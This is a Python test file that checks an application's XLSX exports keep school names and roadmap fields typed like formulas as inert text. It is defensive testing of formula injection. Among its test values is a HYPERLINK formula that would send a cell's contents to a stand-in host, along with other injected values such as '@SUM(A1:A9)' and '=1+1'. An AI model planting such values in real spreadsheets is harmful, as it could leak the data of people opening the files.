"""A name or an action typed like a formula stays text in every XLSX export: opened in Excel or
LibreOffice it is shown, never run."""

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from opora.assessment.exports import build_xlsx as appendix_xlsx
from opora.roadmaps.exports import build_xlsx as roadmap_xlsx
from opora.roadmaps.models import Item

from .samples import appendix_result, roadmap_from_fixture

HYPERLINK = '=HYPERLINK("http://x/"&B3,"x")'


def formulas(data: bytes) -> list[str]:
    """Sheets of the file that hold a formula element (<f>…</f> or <f t="shared" …/>)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if re.search(rb"<f[ >/]", archive.read(name))]


def test_the_check_finds_a_formula_that_openpyxl_saves_as_is():
    book = Workbook()
    book.active["A1"] = HYPERLINK
    buffer = io.BytesIO()
    book.save(buffer)
    assert formulas(buffer.getvalue()) == ["xl/worksheets/sheet1.xml"]


def cells_with(data: bytes, value: str):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == value]


def test_a_school_named_like_a_formula_is_text_in_the_appendix():
    result = appendix_result(5)
    result.identified[0].name = HYPERLINK
    result.risk_zone[0].name = "@SUM(A1:A9)"
    data = appendix_xlsx(result)
    assert formulas(data) == []
    for value in (HYPERLINK, "@SUM(A1:A9)"):
        cells = cells_with(data, value)
        assert cells and all(cell.data_type == "s" for cell in cells), value


@pytest.mark.django_db
def test_an_action_typed_as_plus_one_is_text_in_the_roadmap_sheet():
    roadmap, _ = roadmap_from_fixture("aksha-2022-municipal.txt")
    Item.objects.filter(roadmap=roadmap, position=0).update(action="+1", planned_result=HYPERLINK)
    Item.objects.filter(roadmap=roadmap, position=1).update(action="-2+3", executors=["=1+1"])
    data = roadmap_xlsx(roadmap)
    assert formulas(data) == []
    for value in ("+1", HYPERLINK, "-2+3", "=1+1"):
        cells = cells_with(data, value)
        assert cells and all(cell.data_type == "s" for cell in cells), value
